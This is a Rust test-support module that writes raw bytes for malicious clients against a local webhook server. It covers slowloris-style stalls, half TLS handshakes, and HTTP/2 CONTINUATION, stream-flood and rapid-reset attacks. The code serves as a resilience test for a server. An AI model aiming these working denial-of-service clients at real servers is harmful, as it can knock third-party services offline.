//! Clients that mean no good, or have very bad lines. Bytes are written by hand: no HTTP library does such things.

use std::net::Ipv4Addr;
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, AtomicUsize, Ordering};
use std::time::Duration;

use rustls::ClientConfig;
use tokio::io::{AsyncRead, AsyncReadExt, AsyncWrite, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::sync::Semaphore;
use tokio::task::JoinSet;
use tokio::time::sleep;

use super::client;

/// The start of a TLS record with a ClientHello of 512 bytes, most of them missing.
const HALF_A_HELLO: &[u8] = &[22, 3, 1, 2, 0, 1, 0, 1, 252, 3, 3, 7, 7, 7];
const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const EMPTY_SETTINGS: &[u8] = &[0, 0, 0, 4, 0, 0, 0, 0, 0];
const HEAD: &[u8] =
    b"POST /validate HTTP/1.1\r\nhost: localhost\r\ncontent-type: application/json\r\ncontent-length: 1000\r\n\r\n";
/// Streams that the webhook lets be open on one connection.
const STREAMS: u32 = 128;
/// Between the bytes of those who trickle.
const TRICKLE: Duration = Duration::from_secs(1);
/// Connections made at once: the client's own processor is not to be what is measured.
const CONNECT_AT_ONCE: usize = 32;

/// A way to hold a connection, or to keep the webhook busy through it.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Attack {
    Silent,
    HalfHandshake,
    SilentAfterHandshake,
    HalfHead,
    TrickledBody,
    HalfPreface,
    IdleHttp2,
    EndlessHeaders,
    /// As many requests as the webhook takes on a connection, none with a body.
    StreamFlood,
    /// Requests taken back as soon as they are made, over and over, on a new connection when the old one was closed.
    RapidResets,
}

impl Attack {
    pub(crate) const SLOW: [Self; 8] = [
        Self::Silent,
        Self::HalfHandshake,
        Self::SilentAfterHandshake,
        Self::HalfHead,
        Self::TrickledBody,
        Self::HalfPreface,
        Self::IdleHttp2,
        Self::EndlessHeaders,
    ];

    pub(crate) fn name(self) -> &'static str {
        match self {
            Self::Silent => "silent after connect",
            Self::HalfHandshake => "half a TLS handshake",
            Self::SilentAfterHandshake => "silent after handshake",
            Self::HalfHead => "half a request head",
            Self::TrickledBody => "trickled body",
            Self::HalfPreface => "half an h2 preface",
            Self::IdleHttp2 => "h2, no request",
            Self::EndlessHeaders => "h2, endless headers",
            Self::StreamFlood => "h2, 128 open streams each",
            Self::RapidResets => "h2, rapid resets",
        }
    }

    fn protocol(self) -> Option<&'static str> {
        match self {
            Self::Silent | Self::HalfHandshake => None,
            Self::SilentAfterHandshake | Self::HalfHead | Self::TrickledBody => Some("http/1.1"),
            _ => Some("h2"),
        }
    }

    /// What is sent at once.
    fn first(self) -> Vec<u8> {
        let begun = || [PREFACE, EMPTY_SETTINGS].concat();
        match self {
            Self::Silent | Self::SilentAfterHandshake => Vec::new(),
            Self::HalfHandshake => HALF_A_HELLO.to_vec(),
            Self::HalfHead => HEAD[..30].to_vec(),
            Self::TrickledBody => HEAD.to_vec(),
            Self::HalfPreface => PREFACE[..14].to_vec(),
            Self::IdleHttp2 => begun(),
            Self::EndlessHeaders => [begun(), frame(1, 0, 1, &request_block())].concat(),
            Self::StreamFlood => [begun(), opened(STREAMS, false)].concat(),
            Self::RapidResets => [begun(), opened(STREAMS, true)].concat(),
        }
    }

    /// What is sent every [`TRICKLE`] from then on.
    fn then(self) -> Vec<u8> {
        match self {
            Self::HalfHandshake => vec![7],
            Self::TrickledBody => vec![b'x'],
            // CONTINUATION: one more header, not indexed.
            Self::EndlessHeaders => frame(9, 0, 1, &[0, 1, b'a', 1, b'b']),
            _ => Vec::new(),
        }
    }
}

/// An HTTP/2 frame.
fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).expect("a short frame").to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

/// `POST https://localhost/validate` with JSON, in HPACK without anything indexed.
fn request_block() -> Vec<u8> {
    // :method and :scheme from the static table; the names of :path, :authority and content-type from there as well.
    [&[0x83, 0x87, 4, 9][..], b"/validate", &[1, 9], b"localhost", &[0x0f, 0x10, 16], b"application/json"].concat()
}

/// Requests whose bodies never come; taken back at once if `reset`.
fn opened(streams: u32, reset: bool) -> Vec<u8> {
    let block = request_block();
    let one = |stream| {
        let mut frames = frame(1, 4, stream, &block);
        if reset {
            // RST_STREAM with CANCEL.
            frames.extend(frame(3, 0, stream, &8_u32.to_be_bytes()));
        }
        frames
    };
    (0..streams).flat_map(|number| one(2 * number + 1)).collect()
}

/// Attackers at work. Dropping it closes their connections.
pub(crate) struct Attackers {
    held: Arc<AtomicUsize>,
    tasks: JoinSet<()>,
    stop: Arc<AtomicBool>,
}

impl Attackers {
    /// `count` connections to `port`, the attacks in turn. Returns when each has sent what it begins with.
    pub(crate) async fn start(attacks: &[Attack], count: usize, port: u16, ca: &str) -> Self {
        let trusts = [client::trust(ca, "http/1.1"), client::trust(ca, "h2")];
        let places = Arc::new(Semaphore::new(CONNECT_AT_ONCE));
        let (held, started) = (Arc::new(AtomicUsize::new(0)), Arc::new(AtomicUsize::new(0)));
        let stop = Arc::new(AtomicBool::new(false));
        let mut tasks = JoinSet::new();
        for number in 0..count {
            let attack = attacks[number % attacks.len()];
            let one = One {
                attack,
                port,
                trust: attack.protocol().map(|protocol| Arc::clone(&trusts[usize::from(protocol == "h2")])),
                held: Arc::clone(&held),
                started: Arc::clone(&started),
                places: Arc::clone(&places),
                stop: Arc::clone(&stop),
            };
            tasks.spawn(one.attack());
        }
        while started.load(Ordering::SeqCst) < count {
            sleep(Duration::from_millis(5)).await;
        }
        Self { held, tasks, stop }
    }

    /// Connections that are open.
    pub(crate) fn held(&self) -> usize {
        self.held.load(Ordering::SeqCst)
    }

    /// No more connections instead of those that are closed.
    pub(crate) fn give_up(&mut self) {
        self.stop.store(true, Ordering::SeqCst);
    }

    /// Closes all.
    pub(crate) async fn end(mut self) {
        self.tasks.shutdown().await;
    }
}

struct One {
    attack: Attack,
    port: u16,
    trust: Option<Arc<ClientConfig>>,
    held: Arc<AtomicUsize>,
    started: Arc<AtomicUsize>,
    places: Arc<Semaphore>,
    stop: Arc<AtomicBool>,
}

/// Whatever is connected.
trait Stream: AsyncRead + AsyncWrite + Send + Unpin {}
impl<S: AsyncRead + AsyncWrite + Send + Unpin> Stream for S {}

impl One {
    async fn attack(self) {
        let mut first_time = true;
        loop {
            let connected = {
                let _place = self.places.acquire().await.expect("open");
                let connected = self.connect().await;
                if std::mem::take(&mut first_time) {
                    self.started.fetch_add(1, Ordering::SeqCst);
                }
                connected
            };
            if let Some(stream) = connected {
                self.held.fetch_add(1, Ordering::SeqCst);
                self.hold(stream).await;
                self.held.fetch_sub(1, Ordering::SeqCst);
            }
            // The others have nothing to gain from coming back but handshakes, which anybody can have.
            if self.attack != Attack::RapidResets || self.stop.load(Ordering::SeqCst) {
                return;
            }
            sleep(TRICKLE).await;
        }
    }

    async fn connect(&self) -> Option<Box<dyn Stream>> {
        let mut stream: Box<dyn Stream> = match &self.trust {
            None => Box::new(TcpStream::connect((Ipv4Addr::LOCALHOST, self.port)).await.ok()?),
            Some(trust) => Box::new(client::tls(self.port, trust).await.ok()?),
        };
        stream.write_all(&self.attack.first()).await.ok()?;
        stream.flush().await.ok()?;
        Some(stream)
    }

    /// Until the other side closes.
    async fn hold(&self, stream: Box<dyn Stream>) {
        let (mut read, mut write) = tokio::io::split(stream);
        let then = self.attack.then();
        let mut scrap = [0; 1024];
        loop {
            tokio::select! {
                read = read.read(&mut scrap) => match read {
                    Ok(1..) => {}
                    _ => return,
                },
                () = sleep(TRICKLE), if !then.is_empty() => {
                    if write.write_all(&then).await.is_err() || write.flush().await.is_err() {
                        return;
                    }
                }
            }
        }
    }
}
